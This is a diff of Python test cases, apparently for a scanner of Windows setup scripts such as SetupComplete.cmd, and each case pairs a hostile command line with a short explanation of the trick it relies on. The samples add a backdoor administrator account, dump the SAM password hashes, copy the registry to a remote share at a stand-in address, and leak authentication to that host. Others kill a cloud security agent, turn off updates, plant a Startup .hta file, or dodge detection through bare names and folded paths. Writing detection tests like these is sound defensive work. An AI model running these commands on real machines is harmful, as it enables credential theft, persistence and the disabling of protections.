@@ -110,11 +110,47 @@ def scripts_of_scripts(d):
     d.put(r'ProgramData\b.ps1', 'ne`t us`er hax P /add\r\n')
 
 
+def batch(name, why, at, line, text=EVIL):
+    """A batch file that a line of SetupComplete.cmd starts without its ending, or by another spelling."""
+    change.row(name, why, CHECK, at.rpartition('\\')[2], lambda d: (d.put(at, text), d.put(COMPLETE, USUAL + line + '\r\n')))
+
+
+SCRIPTS = r'C:\Windows\Setup\Scripts'
+batch('script-by-its-bare-name', 'cmd.exe tries the endings of PATHEXT in the current folder.', rf'{SCRIPTS}\foo.bat', 'foo')
+batch('script-called-by-its-bare-name', 'call takes a name without its ending, too.', rf'{SCRIPTS}\foo.cmd', 'call foo')
+batch('script-started-by-its-bare-name', 'start looks for a program as cmd.exe does.', rf'{SCRIPTS}\foo.bat', 'start foo')
+batch('script-under-a-condition', 'The condition holds, and the bare name is that of the script.', rf'{SCRIPTS}\foo.bat', 'if exist foo.bat foo')
+batch('script-of-another-folder-by-its-bare-name', 'The current folder is where cd led to.', r'C:\kit\foo.bat', 'cd C:\\kit\r\nfoo')
+batch('script-in-place-of-a-program-of-windows', 'The current folder comes before those of Path.', r'C:\kit\systeminfo.bat', 'cd C:\\kit\r\nsysteminfo')
+batch('script-over-a-folder-that-is-not-there', 'Windows takes .. and the name before it out of a path, whether the folder is there or not.', r'C:\kit\foo.cmd', r'C:\none\..\kit\foo.cmd')
+batch('script-from-the-folder-of-its-drive', 'C:kit is a folder below the one that the drive is at.', r'C:\kit\foo.bat', 'cd C:\\\r\ncall C:kit\\foo.bat')
+batch('powershell-over-a-folder-that-is-not-there', 'PowerShell is given a path, which Windows folds.', r'C:\kit\x.ps1', r'powershell -File C:\none\..\kit\x.ps1')
+batch('script-called-twice', 'What a script does is what its arguments say.', r'C:\kit\foo.bat', 'call C:\\kit\\foo.bat echo\r\ncall C:\\kit\\foo.bat net', '%1 user hax P@ss.2024 /add\r\n')
+script('powershell-with-the-format-of-its-output', 'The command stands behind an option with a value, and its last word is a comment.',
+       'powershell -OutputFormat Text -c "net user hax P@ss.2024 /add #" C:\\none.ps1\r\n')
+script('powershell-with-a-configuration', 'A configuration of a session decides what its commands do.', 'powershell -ConfigurationName x -c "Get-Date #" C:\\none.ps1\r\n')
+script('accounts-exported', 'reg export writes what the key holds: hashes of passwords.', 'reg export HKLM\\SAM C:\\Windows\\Temp\\s.log /y\r\n')
+script('registry-sent-to-a-stranger', 'A path of another computer is a file there.', 'reg export HKLM\\SOFTWARE \\\\203.0.113.9\\x\\s.reg /y\r\n')
+script('page-exported-into-startup', 'What a key holds is the text of the file, which mshta.exe reads as a page.',
+       'reg export HKLM\\SOFTWARE\\kit "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.hta" /y\r\n')
+script('answer-to-a-stranger', 'Windows tells a computer that it asks for a file who asks, with an answer that its password can be found from.', 'dir \\\\203.0.113.9\\x\r\n')
+script('tasks-of-a-stranger', 'tasklist /s asks another computer.', 'tasklist /s 203.0.113.9\r\n')
+script('other-agent-killed', 'The programs that protect a machine of the cloud have names of their own.', 'taskkill /f /im YDService.exe\r\n')
+script('updates-switched-off-by-the-script', 'NoAutoUpdate 1 ends automatic updates.',
+       'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoUpdate /t REG_DWORD /d 1 /f\r\n')
+script('page-file-over-an-agent', 'The page file takes the place of a file of that path.',
+       'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Memory Management" /v PagingFiles /t REG_MULTI_SZ /d "C:\\win-agent\\win-agent.exe 16 16" /f\r\n')
+script('clock-that-is-never-set', 'With 0 no correction is small enough.', 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Config /v MaxPosPhaseCorrection /t REG_DWORD /d 0 /f\r\n')
+script('waiting-again-and-again', 'Each wait is short, and all of them are hours.', 'ping -n 600 127.0.0.1\r\n' * 40)
+
+
 def file(name, why, path, text, check=CHECK, place=None):
     change.row(name, why, check, place or path.rpartition('\\')[2], lambda d: d.put(path, text))
 
 
 file('handler-of-errors', 'Setup runs ErrorHandler.cmd where something fails.', r'Windows\Setup\Scripts\ErrorHandler.cmd', EVIL)
+change.row('script-of-the-handler-of-errors', 'A bare name is looked for in the current folder.', CHECK, 'foo.cmd',
+           lambda d: (d.put(rf'{SCRIPTS}\ErrorHandler.cmd', 'foo\r\n'), d.put(rf'{SCRIPTS}\foo.cmd', EVIL)))
 file('script-of-the-welcome', 'Setup runs OOBE.cmd beside SetupComplete.cmd.', r'Windows\Setup\Scripts\OOBE.cmd', 'powershell -enc SQBFAFgA\r\n')
 
 # --- the key Setup ---
